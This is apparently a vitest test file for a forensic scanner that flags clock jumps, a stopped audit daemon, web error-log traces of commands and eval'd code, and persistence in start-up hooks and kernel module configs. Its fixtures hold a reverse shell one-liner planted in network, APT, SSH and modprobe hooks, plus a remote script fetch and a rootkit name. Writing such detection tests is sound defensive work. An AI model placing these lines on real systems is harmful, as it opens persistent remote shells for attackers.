import { describe, expect, it } from 'vitest';
import { resultsOf, told } from './run.js';

const line = (time: string, text: string) => `Nov 20 ${time} web-1 ${text}\n`;

describe('the time of a log', () => {
  it('that goes back is told, and an hour in autumn is not', async () => {
    const log =
      line('05:00:00', 'x: a') +
      line('02:00:00', 'x: b') +
      line('02:30:00', 'x: c') +
      line('01:35:00', 'x: d');
    const { bad } = await resultsOf({ 'fs/var/log/syslog': log });
    expect(told(bad)).toEqual(['log.clock-jump file:/var/log/syslog fs/var/log/syslog:2']);
  });
});

describe('services that watch', () => {
  const stop = line('02:00:00', 'systemd[1]: Stopped auditd.service - Security Auditing Service.');

  it('are told when they were stopped for good', async () => {
    const { bad, events } = await resultsOf({ 'fs/var/log/syslog': stop });
    expect(told(bad)).toEqual(['log.defence-stopped service:auditd fs/var/log/syslog:1']);
    expect(events.map(({ kind }) => kind)).toEqual(['service.stopped']);
  });

  it('may be restarted, and stop when the host goes down', async () => {
    const again = stop + line('02:00:01', 'systemd[1]: Started auditd.service - Security Auditing Service.');
    const down = stop + line('02:00:09', 'systemd[1]: Reached target reboot.target - System Reboot.');
    for (const log of [again, down]) expect((await resultsOf({ 'fs/var/log/syslog': log })).bad).toEqual([]);
  });
});

describe('error logs of web servers', () => {
  const head = '[Fri Nov 20 02:11:52.123456 2026] [php:warn] [pid 701] [client 203.0.113.9:52144]';

  it('show what commands wrote that a page ran', async () => {
    const log = `${head} PHP Warning: x\nsh: 1: wgett: not found\n--2026-11-20 02:11:53--  http://203.0.113.9/x.sh\n`;
    const { bad } = await resultsOf({ 'fs/var/log/apache2/error.log': log });
    expect(bad.map(({ rule, at, severity }) => [rule, at, severity])).toEqual([
      ['web.command-output-in-error-log', '2026-11-20T02:11:52.000Z', 'high'],
      ['web.command-output-in-error-log', '2026-11-20T02:11:52.000Z', 'high'],
    ]);
  });

  it('show code that was made up as it ran, and by whom', async () => {
    const log = `${head} PHP Warning: system(): Cannot execute in /var/www/a.php(1) : eval()'d code on line 1\n`;
    const { bad } = await resultsOf({ 'fs/var/log/apache2/error.log.1': log });
    expect(told(bad)).toEqual(['web.evaluated-code ip:203.0.113.9 fs/var/log/apache2/error.log.1:1']);
  });

  it('are full of what is nothing', async () => {
    const log = `${head} script '/var/www/html/shell.php' not found or unable to stat\n2026/11/20 02:00:00 [error] 7#7: *1 open() "/x" failed (2: No such file or directory), client: 192.0.2.9, server: _\n`;
    expect((await resultsOf({ 'fs/var/log/nginx/error.log': log })).bad).toEqual([]);
  });
});

describe('what else runs by itself', () => {
  const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

  it.each([
    ['etc/NetworkManager/dispatcher.d/50-x', shell],
    ['etc/dhcp/dhclient-exit-hooks.d/x', shell],
    ['etc/network/if-up.d/x', shell],
    ['etc/apt/apt.conf.d/99x', `APT::Update::Pre-Invoke {"${shell}";};`],
    ['home/deploy/.ssh/rc', shell],
  ])('is read: %s', async (path, text) => {
    const { bad } = await resultsOf({ [`fs/${path}`]: `${text}\n` });
    expect(told(bad)).toEqual([`persistence.shell-start-up file:/${path} fs/${path}:1`]);
  });

  it.each([
    ['etc/modules-load.d/x.conf', 'diamorphine'],
    ['etc/modprobe.d/x.conf', `install usb-storage /bin/sh -c "${shell}"`],
    ['etc/modprobe.d/y.conf', 'install floppy /var/tmp/.x/run'],
  ])('is a kernel module, or what loads it: %s', async (path, text) => {
    const { bad } = await resultsOf({ [`fs/${path}`]: `# comment\n${text}\n` });
    expect(told(bad)).toEqual([`persistence.kernel-module file:/${path} fs/${path}:2`]);
  });

  it('is ordinary where distributions put it', async () => {
    const { bad } = await resultsOf({
      'fs/etc/modprobe.d/blacklist.conf':
        'blacklist floppy\ninstall usb-storage /bin/true\noptions snd index=-2\n',
      'fs/etc/modules': 'loop\nnf_conntrack\n',
    });
    expect(bad).toEqual([]);
  });
});
